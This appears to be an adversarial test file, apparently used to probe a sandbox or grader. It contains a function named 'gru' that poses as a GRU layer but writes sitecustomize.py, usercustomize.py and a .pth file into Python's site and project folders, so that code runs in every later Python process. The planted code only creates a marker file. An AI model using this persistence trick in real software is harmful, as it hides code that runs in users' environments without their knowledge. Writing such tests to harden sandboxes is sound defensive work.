"""Installs code that every later Python process would run."""

import site
import sys
import sysconfig
from pathlib import Path

import attack_targets as targets
from attack_kit import attempt, zeros

CODE = f"open({targets.OUTSIDE + '/started'!r}, 'w')"


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    folders = {sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), targets.PROJECT}
    folders |= {site.getusersitepackages(), sys.prefix}
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "attack.pth"):
            attempt(f"{folder}/{name}", Path(folder, name).write_text, CODE)
    return zeros(init_state, input_data)
